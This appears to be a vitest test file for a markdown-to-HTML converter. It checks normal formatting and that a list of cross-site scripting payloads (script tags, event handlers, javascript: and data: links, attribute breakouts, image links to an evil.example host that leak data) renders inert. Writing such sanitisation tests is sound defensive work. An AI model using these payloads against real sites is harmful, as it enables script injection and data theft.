import { describe, expect, test } from 'vitest'
import { renderNode } from './render.ts'
import { markdownToHtml } from './to-html.ts'

test('light markdown becomes the HTML that word processors understand', () => {
  expect(markdownToHtml('# Nurse\n\nWe **care**, *always*.\n\n- one\n- two\n\n3. three\n4. four')).toBe(
    [
      '<h1>Nurse</h1>',
      '<p>We <strong>care</strong>, <em>always</em>.</p>',
      '<ul><li>one</li><li>two</li></ul>',
      '<ol start="3"><li>three</li><li>four</li></ol>',
    ].join('\n'),
  )
})

test.each([
  ['a rule and a line break', 'one\\\ntwo\n\n---', '<p>one<br>two</p>\n<hr>'],
  [
    'code',
    'Run `npm <b>`\n\n```\na < b\n```',
    '<p>Run <code>npm &lt;b&gt;</code></p>\n<pre><code>a &lt; b</code></pre>',
  ],
  ['a quotation', '> We care.', '<blockquote><p>We care.</p></blockquote>'],
  ['a loose list', '- one\n\n  more\n- two', '<ul><li><p>one</p><p>more</p></li><li>two</li></ul>'],
  ['a picture alone, which leaves nothing', 'x\n\n![a](https://ok.example/a.png)', '<p>x</p>'],
  ['what only looks like code', 'x\n\n    indented', '<p>x</p>\n<p>indented</p>'],
  [
    'an address that is defined elsewhere',
    '[x][1]\n\n[1]: https://ok.example',
    '<p>[x][1]</p>\n<p>[1]: https://ok.example</p>',
  ],
])('so does %s', (_what, text, html) => expect(markdownToHtml(text)).toBe(html))

test('tables keep the alignment of their columns', () => {
  expect(markdownToHtml('| a | b |\n|--|--:|\n| 1 | 2 |')).toBe(
    '<table><thead><tr><th>a</th><th align="right">b</th></tr></thead><tbody><tr><td>1</td><td align="right">2</td></tr></tbody></table>',
  )
})

describe('hostile text stays text', () => {
  test.each([
    ['a block of HTML', '<div>\n# no title\n</div>', '<p>&lt;div&gt;</p>\n<h1>no title</h1>\n<p>&lt;/div&gt;</p>'],
    ['HTML in a line', 'x <b>**y**</b>', '<p>x &lt;b&gt;<strong>y</strong>&lt;/b&gt;</p>'],
    ['HTML with marks inside', '<b a="*x*">', '<p>&lt;b a=&quot;<em>x</em>&quot;&gt;</p>'],
    ['a comment', '<!-- a -->', '<p>&lt;!-- a --&gt;</p>'],
    ['what is escaped already', '&amp;lt; "Q&A" > x', '<p>&amp;lt; &quot;Q&amp;A&quot; &gt; x</p>'],
  ])('%s, to the letter', (_what, text, html) => expect(markdownToHtml(text)).toBe(html))

  test('also where a parser would take it for HTML', () => {
    const builder = { text: (value: string) => `text ${value}`, element: (tag: string) => `element ${tag}` }
    expect(renderNode({ type: 'html', value: '<script>' }, { builder, headingShift: 0 })).toBe('text <script>')
  })

  const HOSTILE = [
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<svg/onload=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    'x <b onmouseover="alert(1)">y</b>',
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java&#115;cript:alert(1))',
    '[x](&#9;javascript:alert(1))',
    '[x](data:text/html;base64,PHNjcmlwdD4=)',
    '[x](vbscript:msgbox)',
    '[x](file:///etc/passwd)',
    '[x](//evil.example/steal)',
    '[x](/api/auth/logout)',
    '<javascript:alert(1)>',
    '![secret](https://evil.example/?q=salary)',
    '[![i](https://evil.example/i.png)](https://ok.example)',
    '[x][1]\n\n[1]: javascript:alert(1)',
    '![x][1]\n\n[1]: https://evil.example/i.png',
    '```html\n<script>alert(1)</script>\n```',
    '| <img src=x> | [x](javascript:1) |\n|-|-|\n| ![](https://evil.example) | b |',
    '[x](https://ok.example" onclick="alert(1))',
    '[x](<https://ok.example/" onmouseover="alert(1)>)',
  ]

  test.each(HOSTILE)('%s', (text) => {
    const page = document(markdownToHtml(text))
    expect(page.tags.filter((tag) => /^(script|img|svg|iframe|object|style|b)$/.test(tag))).toEqual([])
    for (const [name, value] of page.attributes) {
      expect(['href', 'target', 'rel', 'referrerPolicy', 'start', 'align']).toContain(name)
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/)
    }
  })
})

test('links that only open a page or a letter stay links', () => {
  expect(markdownToHtml('[us](https://ok.example) [mail](mailto:hr@ok.example)')).toContain(
    'href="mailto:hr@ok.example"',
  )
  const link = (href: string) =>
    `<a href="${href}" target="_blank" rel="noopener noreferrer nofollow" referrerPolicy="no-referrer">x</a>`
  for (const [address, href] of [
    ['http://ok.example', 'http://ok.example/'],
    ['https://ok.example/?a=1&b=2', 'https://ok.example/?a=1&amp;b=2'],
    ["https://ok.example/#'>", "https://ok.example/#'%3E"],
    ['mailto:"a"@ok.example', 'mailto:&quot;a&quot;@ok.example'],
  ])
    expect(markdownToHtml(`[x](${address})`)).toBe(`<p>${link(href!)}</p>`)
})

/** The tags and attributes that a browser would see: everything else in our HTML has its brackets escaped. */
function document(html: string) {
  const tags: string[] = []
  const attributes: [string, string][] = []
  for (const [, tag, rest] of html.matchAll(/<([a-z][\w-]*)([^>]*)>/gi)) {
    tags.push(tag!.toLowerCase())
    for (const [, name, value] of rest!.matchAll(/\s([^\s=]+)="([^"]*)"/g)) attributes.push([name!, value!])
  }
  return { tags, attributes }
}
